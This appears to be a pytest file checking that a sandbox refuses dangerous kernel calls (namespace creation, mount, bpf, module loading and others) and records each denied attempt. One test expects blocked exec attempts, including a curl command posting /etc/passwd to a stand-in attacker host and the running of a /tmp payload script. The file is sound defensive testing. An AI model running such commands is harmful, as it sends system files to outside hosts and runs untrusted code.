"""The kernel's dangerous doors are shut, and whoever tries one is recorded."""

from __future__ import annotations

import platform
import signal
from typing import TYPE_CHECKING, Any

import pytest

if TYPE_CHECKING:
    import rooms

CLONE_NEWUSER, CLONE_NEWNET, SIGCHLD = 0x10000000, 0x40000000, 17

#: The call, its registers, and what it meets.
REFUSED: list[tuple[list[Any], str]] = [
    (["unshare", CLONE_NEWUSER], "EPERM"),
    (["clone", CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0], "EPERM"),
    (["clone", (1 << 32) | CLONE_NEWNET | SIGCHLD, 0, 0, 0, 0], "EPERM"),
    (["setns", 3, 0], "EPERM"),
    (["mount", 0, 0, 0, 0, 0], "EPERM"),
    (["pivot_root", 0, 0], "EPERM"),
    (["chroot", 0], "EPERM"),
    (["open_tree", -100, 0, 1], "EPERM"),
    (["fsopen", 0, 0], "EPERM"),
    (["prctl", 4, 0, 0, 0, 0], "EPERM"),  # PR_SET_DUMPABLE
    (["prctl", 22, 1, 0, 0, 0], "EPERM"),  # PR_SET_SECCOMP
    (["prctl", 0x59616D61, -1, 0, 0, 0], "EPERM"),  # PR_SET_PTRACER, any
    (["prctl", 36, 1, 0, 0, 0], "EPERM"),  # PR_SET_CHILD_SUBREAPER
    (["seccomp", 1, 0, 0], "EPERM"),
    (["capset", 0, 0], "EPERM"),
    (["setuid", 0], "EPERM"),
    (["io_uring_setup", 8, 0], "ENOSYS"),
    (["bpf", 0, 0, 0], "EPERM"),
    (["perf_event_open", 0, 0, -1, -1, 0], "EPERM"),
    (["userfaultfd", 0], "EPERM"),
    (["keyctl", 0, -3, 0], "EPERM"),
    (["add_key", 0, 0, 0, 0, 0], "EPERM"),
    (["memfd_create", 0, 0], "ENOSYS"),
    (["memfd_secret", 0], "EPERM"),
    (["mmap", 0, 4096, 3, 0x21, -1, 0], "EPERM"),  # shared and anonymous
    (["shmget", 0, 4096, 0o1600], "EPERM"),
    (["mq_open", 0, 0o102, 0o600, 0], "EPERM"),
    (["init_module", 0, 0, 0], "EPERM"),
    (["kexec_load", 0, 0, 0, 0], "EPERM"),
    (["fanotify_init", 0, 0], "EPERM"),
    (["open_by_handle_at", -100, 0, 0], "EPERM"),
    (["pidfd_open", 1, 0], "EPERM"),
    (["pidfd_send_signal", 3, 9, 0, 0], "EPERM"),
    (["process_madvise", 3, 0, 0, 0, 0], "EPERM"),
    (["mlock", 0, 4096], "EPERM"),
    ([999, 1, 2, 3], "EPERM"),  # a call that no kernel has yet
]


def test_a_call_that_the_policy_refuses_fails_and_is_recorded(room: rooms.Controller) -> None:
    ran = room.run("kernel:make", {"calls": [call for call, _ in REFUSED]})
    assert list(ran.value.values()) == [errno for _, errno in REFUSED]
    for (name, *_), errno in REFUSED:
        recorded = ran.events(name if isinstance(name, str) else f"syscall_{name}")
        assert recorded, name
        assert {event.decision for event in recorded} == {"denied"}
        assert {event.errno for event in recorded} == {errno}


def test_clone3_does_not_exist(room: rooms.Controller) -> None:
    assert room.run("kernel:make", {"calls": [["clone3", 0, 88]]}).value == {"0": "ENOSYS"}


def test_a_program_cannot_be_executed_and_the_attempt_is_recorded_with_its_argv(
    room: rooms.Controller,
) -> None:
    ran = room.run("kernel:execute")
    assert ran.value.pop("system") not in ("0", "127")
    assert set(ran.value.values()) == {"EACCES"}
    tried = [(event.args["path"], event.args["argv"]) for event in ran.events("execve")]
    assert ("/usr/bin/curl", ["curl", "-d", "@/etc/passwd", "http://evil.example/"]) in tried
    assert ("/tmp/payload.sh", ["/tmp/payload.sh"]) in tried
    assert ("/usr/bin/wget", ["wget"]) in tried
    assert ("/bin/sh", ["sh", "-c", "id > /tmp/id"]) in tried
    assert ran.events("execveat", argv=["/tmp/payload.sh"])


def test_a_worker_cannot_signal_the_supervisor(room: rooms.Controller) -> None:
    ran = room.run("kernel:signal_supervisor")
    assert set(ran.value.values()) == {"EPERM"}


def test_a_worker_cannot_trace_read_or_steer_the_supervisor(room: rooms.Controller) -> None:
    ran = room.run("kernel:look_into_supervisor")
    assert set(ran.value.values()) <= {"EPERM", "EACCES", "ENOENT"}, ran.value


@pytest.mark.skipif(platform.machine() != "x86_64", reason="these are calls of x86")
@pytest.mark.parametrize("how", ["x32", "i386"])
def test_a_call_of_another_architecture_kills(room: rooms.Controller, how: str) -> None:
    ended = room.run("kernel:die_of", {"how": how}).value["signal"]
    # A kernel without that architecture raises a fault before any filter is asked.
    assert ended in ((signal.SIGSYS,) if how == "x32" else (signal.SIGSYS, signal.SIGSEGV))
